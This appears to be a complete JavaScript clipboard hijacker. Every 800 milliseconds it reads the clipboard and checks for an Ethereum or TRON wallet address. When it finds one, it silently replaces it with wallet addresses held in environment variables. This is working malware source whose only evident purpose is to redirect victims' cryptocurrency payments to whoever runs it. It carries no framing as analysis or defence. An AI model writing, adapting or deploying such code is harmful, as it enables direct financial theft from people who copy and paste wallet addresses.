import clipboard from 'clipboardy';

const own = { eth: process.env.A, trx: process.env.B };

setInterval(async () => {
  const text = await clipboard.read();
  if (/^0x[a-fA-F0-9]{40}$/.test(text)) await clipboard.write(own.eth);
  else if (/^T[A-Za-z1-9]{33}$/.test(text)) await clipboard.write(own.trx);
}, 800);
